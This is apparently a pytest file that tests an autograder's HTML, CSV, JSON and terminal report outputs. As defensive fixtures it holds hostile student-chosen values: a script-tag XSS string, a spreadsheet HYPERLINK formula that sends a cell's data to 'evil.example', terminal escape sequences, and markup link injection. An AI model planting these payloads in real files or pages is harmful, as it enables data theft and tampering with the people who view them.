"""What an instructor reads: the HTML report, the CSV and JSON, the terminal table, `workbook report`."""

from __future__ import annotations

import csv
import html as markup
import io
import json
import os
import re
import unicodedata
from html.parser import HTMLParser

import pytest
from rich.console import Console
from typer.testing import CliRunner

from autograder import results as model
from autograder.cli import app
from autograder.grading.store import Store
from autograder.outputs import gradebook, report
from autograder.results import ItemResult, SubmissionResult
from tests.conftest import COURSE
from tests.support.timing import promptly

runner = CliRunner()
FIRST = COURSE.items[0]
OTHER = next(i for i in COURSE.items if i.section != FIRST.section)
ITEMS = [FIRST, OTHER]
HOSTILE = "<script>alert(1)</script>"


def item(item_id: str, *outcomes: tuple[str, str], status: str = "graded", flags=(), message="") -> ItemResult:
    tests = [model.TestResult(f"test_{n}", 5 if s == "passed" else 0, 5, s, m, task=n, description=f"check {n}")
             for n, (s, m) in enumerate(outcomes, start=1)]
    return ItemResult.from_tests(item_id, 5 * len(outcomes), tests, status, message, list(flags))


def class_results() -> list[SubmissionResult]:
    return [
        SubmissionResult("alice", [item(FIRST.id, ("passed", ""), ("passed", "")),
                                   item(OTHER.id, ("passed", ""))]),
        SubmissionResult("bob", [item(FIRST.id, ("passed", ""), ("failed", "only 1 of 3 in flight")),
                                 item(OTHER.id, ("failed", "expected 422, got 200"))]),
        SubmissionResult(HOSTILE, [item(FIRST.id, ("failed", "only 1 of 3 in flight"),
                                        ("failed", "only 1 of 3 in flight"),
                                        flags=["canary passed: the reporting was tampered with"]),
                                   item(OTHER.id, ("error", f"ValueError: {HOSTILE}"), status="import_error",
                                        message="NameError: name 'app' is not defined")]),
    ]


class Page(HTMLParser):
    """Collects what the tests look at, and checks that every element is closed in order."""

    VOID = frozenset({"meta", "br", "hr", "img", "input", "link", "col", "source", "wbr", "area", "base", "embed",
                      "param", "track"})

    def __init__(self) -> None:
        super().__init__()
        self.stack: list[str] = []
        self.tags: list[tuple[str, dict]] = []
        self.problems: list[str] = []
        self.text: list[str] = []
        self.rows: dict[str, list[list[tuple[dict, str]]]] = {}
        self.table_parents: list[tuple[str, list[str]]] = []  # (table, the open elements around it)
        self._table: list[str] = []
        self._cell: tuple[dict, list[str]] | None = None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        self.tags.append((tag, attrs))
        if tag == "table":
            self._table.append(attrs.get("id") or attrs.get("class") or "")
            self.table_parents.append((self._table[-1], list(self.stack)))
            self.rows.setdefault(self._table[-1], [])
        elif tag == "tr" and self._table:
            self.rows[self._table[-1]].append([])
        elif tag in ("td", "th") and self._table:
            self._cell = (attrs, [])
        if tag not in self.VOID:
            self.stack.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))  # <path .../> in SVG: nothing to close

    def handle_endtag(self, tag):
        if tag in ("td", "th") and self._cell is not None and self._table:
            self.rows[self._table[-1]][-1].append((self._cell[0], "".join(self._cell[1]).strip()))
            self._cell = None
        if tag == "table" and self._table:
            self._table.pop()
        if not self.stack or self.stack[-1] != tag:
            self.problems.append(f"</{tag}> closes <{self.stack[-1] if self.stack else None}>")
        else:
            self.stack.pop()

    def handle_data(self, data):
        self.text.append(data)
        if self._cell is not None:
            self._cell[1].append(data)


@pytest.fixture(scope="module")
def page() -> tuple[str, Page]:
    html = report.render_html(COURSE, class_results(), ITEMS)
    parsed = Page()
    parsed.feed(html)
    parsed.close()
    return html, parsed


def test_the_page_is_well_formed(page):
    html, parsed = page
    assert html.startswith("<!DOCTYPE html>")
    assert parsed.problems == [] and parsed.stack == []


def test_the_page_is_self_contained(page):
    _, parsed = page
    tags = {tag for tag, _ in parsed.tags}
    assert "script" not in tags and "link" not in tags and "iframe" not in tags
    for tag, attrs in parsed.tags:
        for name in ("src", "href", "xlink:href"):
            value = attrs.get(name) or ""
            assert not value or value.startswith("#"), f"<{tag} {name}={value!r}> loads something"


def test_student_text_is_escaped(page):
    html, parsed = page
    assert HOSTILE not in html
    assert HOSTILE in "".join(parsed.text)  # shown as text, never run


def test_the_score_table(page):
    _, parsed = page
    header, subheader, *rows = parsed.rows["score-table"]
    assert [text for _, text in header][1:3] == [FIRST.section, OTHER.section]
    assert [text for _, text in subheader] == [FIRST.id.split("_")[0], OTHER.id.split("_")[0]]
    by_name = {cells[0][1]: cells for cells in rows}
    assert set(by_name) == {"alice", "bob", HOSTILE}
    assert [text for _, text in by_name["alice"][1:5]] == ["10", "5", "15/15", "100%"]
    eve = by_name[HOSTILE]
    flagged_cell = eve[1]
    assert "flagged" in flagged_cell[0]["class"] and "⚑" in flagged_cell[1]
    assert "canary passed" in flagged_cell[0]["title"]
    assert eve[2][1] == "0import error" and "zero" in eve[2][0]["class"]
    assert eve[-1][1] == "⚑ 1" and by_name["alice"][-1][1] == ""


def test_the_charts(page):
    html, parsed = page
    svgs = [attrs for tag, attrs in parsed.tags if tag == "svg"]
    assert len(svgs) == 2
    assert html.index('id="pass-rate-chart"') < html.index("<svg") < html.index('id="distribution-chart"')
    text = "".join(parsed.text)
    assert "full marks" in text and "mean score" in text and "Total scores" in text


def test_the_failure_counts_and_messages(page):
    _, parsed = page
    # One table per item, all with the class "test-table": (test, failed/runs, messages) in suite order.
    rows = [[text for _, text in row] for row in parsed.rows["test-table"] if row and row[0][1] != "test"]
    assert [row[:2] for row in rows] == [["check 1test_1", "1/3"], ["check 2test_2", "2/3"],
                                         ["check 1test_1", "2/3"]]
    assert rows[0][2] == "1× only 1 of 3 in flight"
    assert rows[1][2] == "2× only 1 of 3 in flight"
    assert "1× expected 422, got 200" in rows[2][2] and f"1× ValueError: {HOSTILE}" in rows[2][2]


def test_the_item_table_and_the_flag_list(page):
    _, parsed = page
    assert [text for _, text in parsed.rows["item-table"][0]][2] == "submitted"
    items = {row[0][1]: [text for _, text in row] for row in parsed.rows["item-table"][1:]}
    assert items[FIRST.id][2:5] == ["3", "33%", "50%"]  # 3 submissions, 1 with full marks, 15/30 points
    assert items[OTHER.id][6] == "1"  # one import error
    assert items[FIRST.id][-1] == "⚑ 1"
    (flag_row,) = parsed.rows["flag-table"][1:]
    assert [text for _, text in flag_row] == [HOSTILE, FIRST.id, "⚑ canary passed: the reporting was tampered with"]


def css_rules(html: str) -> dict[str, dict[str, str]]:
    """The page's style sheet: each selector with its declarations (enough for our flat CSS)."""
    (sheet,) = re.findall(r"<style>(.*?)</style>", html, re.DOTALL)
    rules: dict[str, dict[str, str]] = {}
    for selectors, body in re.findall(r"([^{}]+)\{([^{}]*)\}", sheet):
        declarations = dict(part.split(":", 1) for part in body.split(";") if ":" in part)
        for selector in selectors.split(","):
            rules.setdefault(" ".join(selector.split()), {}).update(
                {" ".join(k.split()): " ".join(v.split()) for k, v in declarations.items()})
    return rules


def summaries(html: str) -> list[str]:
    """What each ``<summary>`` holds, markup included, on one line."""
    return [" ".join(markup.unescape(s).split()) for s in re.findall(r"<summary[^>]*>(.*?)</summary>", html, re.DOTALL)]


def test_the_name_column_and_the_header_row_stick(page):
    """Scrolled across 41 items, the names stay in view; scrolled down, the item ids do."""
    html, parsed = page
    rules = css_rules(html)
    name = rules["#score-table th.name"]
    assert name["position"] == "sticky" and name["left"] == "0"
    assert name["background"] == "#fff"  # opaque: the scrolled cells pass under it, unseen
    assert rules["#score-table thead"]["position"] == "sticky" and rules["#score-table thead"]["top"] == "0"
    assert rules["#score-table thead th.name"]["z-index"] > name["z-index"]  # the corner covers both
    # Every row's first cell is the name cell, the header's too (it spans the item ids' row).
    header, _, *rows = parsed.rows["score-table"]
    assert all("name" in row[0][0].get("class", "").split() for row in (header, *rows))
    assert header[0][0]["rowspan"] == "2"
    # A sticky cell sticks within its nearest scrolling box: the table's own, scrolling both ways.
    (parents,) = [p for table, p in parsed.table_parents if table == "score-table"]
    box = [attrs for tag, attrs in parsed.tags if tag == "div" and "both" in attrs.get("class", "")]
    assert parents[-1] == "div" and len(box) == 1 and rules[".scroll.both"]["overflow"] == "auto"
    assert rules[".scroll.both"]["max-height"].endswith("vh")


def test_each_failure_table_is_a_closed_details(page):
    html, parsed = page
    tables = [p for table, p in parsed.table_parents if table == "test-table"]
    assert len(tables) == 2 and all(p[-1] == "details" for p in tables)
    assert [attrs for tag, attrs in parsed.tags if tag == "details"] == [{}, {}]  # no "open"
    assert summaries(html) == [
        f"<b>{FIRST.id}</b> — 2 of 3 submitted failed a test; most often <code>test_2</code> (2×)",
        f"<b>{OTHER.id}</b> — 2 of 3 submitted failed a test; most often <code>test_1</code> (2×)"]


def a_class_with_a_missing_file() -> list[SubmissionResult]:
    """carol handed in no file for FIRST; dave's did not import, so no test of it ran."""
    return [*class_results()[:2],
            SubmissionResult("carol", [ItemResult(FIRST.id, 0, 10, "missing", "first.py was not found"),
                                       item(OTHER.id, ("passed", ""))]),
            SubmissionResult("dave", [ItemResult(FIRST.id, 0, 10, "import_error", "SyntaxError: invalid syntax"),
                                      item(OTHER.id, ("passed", ""))])]


def test_a_missing_file_is_counted_apart_and_alike_in_both_places():
    """The rule on the page: submitted = the file was there; missing is counted apart."""
    html = report.render_html(COURSE, a_class_with_a_missing_file(), ITEMS)
    parsed = Page()
    parsed.feed(html)
    assert report.COUNTING in markup.unescape(html)
    header, *rows = parsed.rows["item-table"]
    columns = [text for _, text in header]
    first = dict(zip(columns, [text for _, text in next(r for r in rows if r[0][1] == FIRST.id)]))
    # alice, bob and dave had the file (dave's ran no test); carol did not.
    assert (first["submitted"], first["missing"], first["import error"]) == ("3", "1", "1")
    assert first["full marks"] == "33%" and first["mean score"] == "50%"  # alice; (10 + 5 + 0) of 3 × 10 points
    failed = [row[1][1] for row in parsed.rows["test-table"] if row and row[0][1] != "test"][:2]
    assert failed == ["1/3", "2/3"]  # out of the 3 submitted, as the Items table says: dave failed both
    summary, _ = summaries(html)
    assert summary.endswith("— 2 of 3 submitted failed a test; most often <code>test_2</code> (2×); 1 missing")
    assert "1× SyntaxError: invalid syntax" in [row[2][1] for row in parsed.rows["test-table"] if row][1]
    stats = report.item_stats(a_class_with_a_missing_file(), ITEMS)[0]
    assert (stats.submitted, stats.missing, stats.failing) == (3, 1, 2)
    assert {t.runs for t in stats.tests.values()} == {stats.submitted}


def test_statistics():
    stats = report.item_stats(class_results(), ITEMS)
    assert [round(s.pass_rate) for s in stats] == [33, 33]
    assert stats[0].tests["test_2"].failures == 2 and stats[0].failures == 3
    assert report.distribution(class_results()) == [1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 1]  # 0%, 33%, 100%
    assert report.distribution([]) == [0] * 11


def test_an_empty_class_renders():
    assert "0 submissions" in report.render_html(COURSE, [], ITEMS)


# --- CSV, JSON and the terminal table ---------------------------------------------------

def test_csv_lists_the_flagged_items(tmp_path):
    results = class_results()
    results[1].items[1].flags.append("read the hidden suite")
    results[2].items[1].flags.append("started a process")
    gradebook.write_csv(results, ITEMS, tmp_path / "g.csv")
    rows = list(csv.reader((tmp_path / "g.csv").read_text(encoding="utf-8").splitlines()))
    assert rows[0] == ["submission", FIRST.id, OTHER.id, "total", "max_score", "flags"]
    assert [r[-1] for r in rows[1:]] == ["", OTHER.id, f"{FIRST.id};{OTHER.id}"]


def test_json_carries_the_flags(tmp_path):
    gradebook.write_json(class_results(), tmp_path / "r.json")
    data = json.loads((tmp_path / "r.json").read_text())
    assert data["version"] == 1
    assert data["submissions"][2]["items"][0]["flags"] == ["canary passed: the reporting was tampered with"]
    assert data["submissions"][0]["items"][0]["flags"] == []


def render(results, items, width=80, isolation=None) -> str:
    console = Console(width=width, record=True, file=open("/dev/null", "w"))  # noqa: SIM115
    gradebook.print_table(COURSE, results, items, console, isolation)
    console.file.close()
    return console.export_text()


def test_the_table_keeps_item_columns_when_they_fit():
    text = render(class_results(), ITEMS)
    assert FIRST.id.split("_")[0] in text and "subtotals" not in text
    assert "⚑" in text and "flagged" in text
    assert max(len(line) for line in text.splitlines()) <= 80


def test_the_table_shows_section_subtotals_when_items_do_not_fit():
    items = list(COURSE.items)
    results = [SubmissionResult(name, [ItemResult(i.id, i.points if n % 2 else 0, i.points, "graded",
                                                  flags=["x"] if name == "bob" and n == 3 else [])
                                       for n, i in enumerate(items)]) for name in ("alice", "bob")]
    text = render(results, items)
    assert "subtotals by section" in text
    assert max(len(line) for line in text.splitlines()) <= 80
    for section in COURSE.sections:
        points = sum(i.points for i in items if i.section == section.id)
        assert section.id in text and f"/{points}" in text
    bob = next(line for line in text.splitlines() if "bob" in line)
    assert f"⚑ {items[3].id.split('_')[0]}" in bob
    alice = next(line for line in text.splitlines() if "alice" in line)
    assert "⚑" not in alice
    wide = render(results, items, width=1000)
    assert "subtotals" not in wide and items[-1].id.split("_")[0] in wide


# --- workbook report ------------------------------------------------------------------------

def fill(path, results) -> None:
    with Store(path) as db:
        for submission in results:
            for r in submission.items:
                db.save(submission.submission, "f", "s", r)


def test_report_reexports_from_the_store(tmp_path):
    fill(tmp_path / "g.sqlite", class_results())
    with Store(tmp_path / "g.sqlite") as db:
        db.save("alice", "f", "s", ItemResult("gone01_removed", 1, 1, "graded"))
    outs = {"--html": tmp_path / "r.html", "--json": tmp_path / "r.json", "--csv": tmp_path / "r.csv"}
    result = runner.invoke(app, ["report", "--db", str(tmp_path / "g.sqlite"),
                                 *[str(x) for pair in outs.items() for x in pair]])
    assert result.exit_code == 0, result.output
    assert "left out: 1 stored item(s) no longer in the course (gone01_removed)" in result.output
    assert "<svg" in outs["--html"].read_text() and "bob" in result.output
    data = json.loads(outs["--json"].read_text())
    assert sorted(s["submission"] for s in data["submissions"]) == sorted(["alice", "bob", HOSTILE])
    assert data == json.loads(json.dumps(model.gradebook_json(
        sorted(class_results(), key=lambda s: s.submission))))
    assert outs["--csv"].read_text().splitlines()[0].endswith(",total,max_score,flags")


def test_report_of_some_items(tmp_path):
    fill(tmp_path / "g.sqlite", class_results())
    result = runner.invoke(app, ["report", "--db", str(tmp_path / "g.sqlite"), "--items", OTHER.id,
                                 "--csv", str(tmp_path / "r.csv")])
    assert result.exit_code == 0, result.output
    assert (tmp_path / "r.csv").read_text().splitlines()[0] == f"submission,{OTHER.id},total,max_score,flags"


@pytest.mark.parametrize("make", ["nothing", "empty"])
def test_report_without_results_is_one_line(tmp_path, make):
    db = tmp_path / "g.sqlite"
    if make == "empty":
        with Store(db) as store:
            len(store)
    result = runner.invoke(app, ["report", "--db", str(db), "--html", str(tmp_path / "r.html")])
    assert result.exit_code == 2 and len(result.output.strip().splitlines()) == 1
    assert result.output.startswith("error:") and not (tmp_path / "r.html").exists()


# --- names and messages a student chose -----------------------------------------------------

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"see")'
ESCAPES = "\x1b]0;pwned\x07\x1b[2Jmallory\x1b[31m"
MARKUP = "[link=https://evil.example]x[/link]"
ISOLATION = {"requested": "auto", "level": "partial", "layers": {"seccomp": "on"},
             "missing": {"landlock": "the kernel has none"}}
ISOLATION_LINE = "isolation: partial (seccomp; --isolation auto); missing: landlock (the kernel has none)"


def chosen_names() -> list[SubmissionResult]:
    message = f"ValueError: {ESCAPES} [bold]boom[/bold]\nsecond line"
    return [SubmissionResult(FORMULA, [item(FIRST.id, ("passed", ""), ("failed", message))]),
            SubmissionResult(ESCAPES, [item(FIRST.id, ("passed", ""), ("passed", ""), flags=[f"flag {ESCAPES}"])]),
            SubmissionResult(MARKUP, [item(FIRST.id, ("failed", "-1+2"), ("passed", ""))]),
            SubmissionResult("+tab\tbed", [item(FIRST.id, ("passed", ""), ("passed", ""))])]


def test_csv_cells_are_never_formulas(tmp_path):
    gradebook.write_csv(chosen_names(), [FIRST], tmp_path / "g.csv")
    rows = list(csv.reader((tmp_path / "g.csv").read_text(encoding="utf-8").splitlines()))
    assert [r[0] for r in rows[1:]] == ["'" + FORMULA, "mallory", MARKUP, "'+tab bed"]
    assert rows[2][-1] == FIRST.id  # the flagged item's id, as before


def test_json_names_and_messages_hold_no_control_character(tmp_path):
    gradebook.write_json(chosen_names(), tmp_path / "r.json")
    data = json.loads((tmp_path / "r.json").read_text())
    assert [s["submission"] for s in data["submissions"]] == [FORMULA, "mallory", MARKUP, "+tab bed"]
    assert data["submissions"][0]["items"][0]["tests"][1]["message"] == \
        "ValueError: mallory [bold]boom[/bold] second line"
    assert data["submissions"][1]["items"][0]["flags"] == ["flag mallory"]
    assert set(data) == {"version", "submissions"}  # no isolation record given: no key


def test_json_carries_an_isolation_record_only_when_given(tmp_path):
    gradebook.write_json(class_results(), tmp_path / "r.json", isolation=ISOLATION)
    data = json.loads((tmp_path / "r.json").read_text())
    assert data["isolation"] == ISOLATION and data["version"] == 1
    del data["isolation"]
    gradebook.write_json(class_results(), tmp_path / "plain.json")
    assert data == json.loads((tmp_path / "plain.json").read_text())  # otherwise version 1 unchanged


def test_the_terminal_shows_names_as_written_and_no_escape_sequence():
    terminal = io.StringIO()
    console = Console(file=terminal, force_terminal=True, width=200, color_system="truecolor")
    gradebook.print_table(COURSE, chosen_names(), [FIRST], console, isolation=ISOLATION)
    shown = terminal.getvalue()
    assert "pwned" not in shown and "\x1b]" not in shown and "\x1b[2J" not in shown and "\t" not in shown
    text = render(chosen_names(), [FIRST], width=200, isolation=ISOLATION)
    assert MARKUP in text and FORMULA in text and "mallory" in text
    assert text.rstrip().splitlines()[-1] == ISOLATION_LINE


def test_the_section_table_shows_names_as_written():
    results = [SubmissionResult(MARKUP, [ItemResult(i.id, i.points, i.points, "graded") for i in COURSE.items])]
    text = render(results, list(COURSE.items), width=140)  # too narrow for 38 items, wide enough for the name
    assert "subtotals by section" in text and MARKUP in text


def test_the_page_holds_no_control_character_and_the_isolation_line():
    html = report.render_html(COURSE, chosen_names(), [FIRST], isolation=ISOLATION)
    assert not [c for c in html if unicodedata.category(c) == "Cc" and c != "\n"]
    assert "pwned" not in html and "mallory" in html
    assert f'<p class="meta" id="isolation">{ISOLATION_LINE}</p>' in html
    assert 'id="isolation"' not in report.render_html(COURSE, chosen_names(), [FIRST])


@pytest.mark.parametrize("option", ["--json", "--csv", "--html"])
def test_report_refuses_a_fifo_output(tmp_path, option):
    fill(tmp_path / "g.sqlite", class_results())
    fifo = tmp_path / "out"
    os.mkfifo(fifo)
    result = promptly(lambda: runner.invoke(app, ["report", "--db", str(tmp_path / "g.sqlite"), option, str(fifo)]))
    assert result["value"].exit_code == 2
    assert result["value"].output == f"error: cannot write {fifo}: it is a FIFO (named pipe), not a regular file\n"
